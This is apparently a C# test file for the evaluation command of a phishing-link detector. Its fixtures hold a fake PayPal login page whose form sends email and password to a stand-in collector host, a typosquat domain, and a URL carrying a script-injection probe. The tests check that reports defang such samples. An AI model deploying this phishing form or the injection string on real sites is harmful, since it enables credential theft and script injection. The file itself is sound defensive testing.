using System.Text.Json;
using Nylas.LinkSafety.Testing.Files;

namespace Nylas.LinkSafety.Cli.Tests.Evaluate;

/// <summary>The whole command, on a handful of made samples.</summary>
public sealed class EvaluateCommandTests : IDisposable
{
    private const string Phish = """
        <!doctype html><html><title>PayPal: your account has been suspended</title><img src=logo.png alt=PayPal>
        <form action="http://collector.test/in.php" method=post><input name=email type=email><input name=password type=password></form></html>
        """;

    private const string Honest = """
        <!doctype html><html lang="en"><link rel="canonical" href="https://lamps.test/"><title>Lamps by the sea</title><p>We make lamps of driftwood. <a href="/about">About us</a></p></html>
        """;

    private readonly TemporaryDirectory _directory = new();

    public EvaluateCommandTests()
    {
        Write("urls/phishing.csv", "url,date\nhttps://paypal.com.secure-login.shop.icu/<script>alert(1)</script>,2026-01-02\nhttps://paypa1-login.com/,2026-02-03\n");
        Write("urls/benign.csv", "url,date\nhttps://www.bbc.co.uk/news/a-story,2026-01-02\nhttps://lamps.test/about,2026-02-03\nhttps://lamps.test/all,2026-02-03\n");
        Write("popular-sites.txt", "bbc.co.uk\npaypal.com\n");
        Write("pages/manifest.csv", "file,label,url\nkits/a.html,phishing,\narticles/b.html,benign,https://lamps.test/\n");
        Write("pages/kits/a.html", Phish);
        Write("pages/articles/b.html", Honest);
    }

    public void Dispose() => _directory.Dispose();

    [Fact]
    public async Task Evaluate_PrintsEveryMode_AndEndsWith0()
    {
        var run = await CliRun.OfAsync("evaluate", "--data", _directory.PathOf("."));

        Assert.Equal((0, ""), (run.Exit, run.Error));
        Assert.Contains("== URL alone ==", run.Output, StringComparison.Ordinal);
        Assert.Contains("== Page alone ==", run.Output, StringComparison.Ordinal);
        Assert.Contains("== Combined ==", run.Output, StringComparison.Ordinal);
        Assert.Contains("popular sites, home pages", run.Output, StringComparison.Ordinal);
        Assert.Contains("1 phishing pages came without their address", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Evaluate_AsJson_TellsThePhishFromTheHonest()
    {
        var lines = (await CliRun.OfAsync("evaluate", "--json", "--data", _directory.PathOf("."))).Lines.Select(static line => JsonSerializer.Deserialize<JsonElement>(line)).ToArray();

        var all = lines.Single(static line => Is(line, "kind", "curve") && Is(line, "mode", "combined") && Is(line, "bad", "all") && Is(line, "benign", "all"));
        Assert.Equal(1, all.GetProperty("area")[0].GetDouble());
        Assert.Equal(JsonValueKind.Null, all.GetProperty("found_at").GetProperty("0.001").ValueKind);
        var kit = lines.Single(static line => Is(line, "kind", "decisions") && Is(line, "mode", "combined") && Is(line, "source", "pages/kits"));
        Assert.Equal(1, kit.GetProperty("block")[0].GetDouble());
        var popular = lines.Single(static line => Is(line, "source", "popular sites, home pages"));
        Assert.Equal((2, 1.0), (popular.GetProperty("count").GetInt32(), popular.GetProperty("redirect")[0].GetDouble()));
    }

    [Fact]
    public async Task Evaluate_WritesAReportWithCurves_InWhichNoSampleIsAliveAndNoLink()
    {
        string output = _directory.PathOf("out");

        var run = await CliRun.OfAsync("evaluate", "--data", _directory.PathOf("."), "--out", output);

        Assert.Equal(0, run.Exit);
        string report = await File.ReadAllTextAsync(Path.Combine(output, "report.html"));
        Assert.Contains("<polyline", report, StringComparison.Ordinal);
        Assert.Contains("hxxps://paypal.com.secure-login.shop.icu/", report, StringComparison.Ordinal);
        Assert.Contains("brand-in-subdomain", report, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", report, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<a ", report, StringComparison.OrdinalIgnoreCase);
        string[] rows = await File.ReadAllLinesAsync(Path.Combine(output, "samples.csv"));
        Assert.Equal(8, rows.Length);
        Assert.Contains(rows, static row => row.StartsWith("pages/kits,pages/kits/a.html,bad,", StringComparison.Ordinal) && row.Contains(",block,", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Evaluate_FromADay_LeavesEarlierSamplesOut()
    {
        var run = await CliRun.OfAsync("evaluate", "--data", _directory.PathOf("."), "--from", "2026-02-01");

        Assert.StartsWith("3 samples: all sites, from 2026-02-01.", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Evaluate_Twice_SaysTheSameButForTime()
    {
        var first = await CliRun.OfAsync("evaluate", "--json", "--data", _directory.PathOf("."));
        var second = await CliRun.OfAsync("evaluate", "--json", "--data", _directory.PathOf("."));

        Assert.Equal(first.Output, second.Output);
    }

    [Fact]
    public async Task Evaluate_NothingLabelled_IsAnError()
    {
        string empty = _directory.PathOf("empty");
        Directory.CreateDirectory(empty);

        var run = await CliRun.OfAsync("evaluate", "--data", empty);

        Assert.Equal(1, run.Exit);
        Assert.StartsWith("No labelled sample was found", run.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData]
    [InlineData("--data", "/tmp", "--split", "half")]
    [InlineData("--data", "/tmp", "--from", "yesterday")]
    public async Task CommandLine_ThatIsNotAsExpected_IsExit2(params string[] arguments) => Assert.Equal(2, (await CliRun.OfAsync(["evaluate", .. arguments])).Exit);

    private static bool Is(JsonElement line, string name, string value) => line.TryGetProperty(name, out var member) && member.GetString() == value;

    private void Write(string name, string content)
    {
        string path = _directory.PathOf(name);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, content);
    }
}
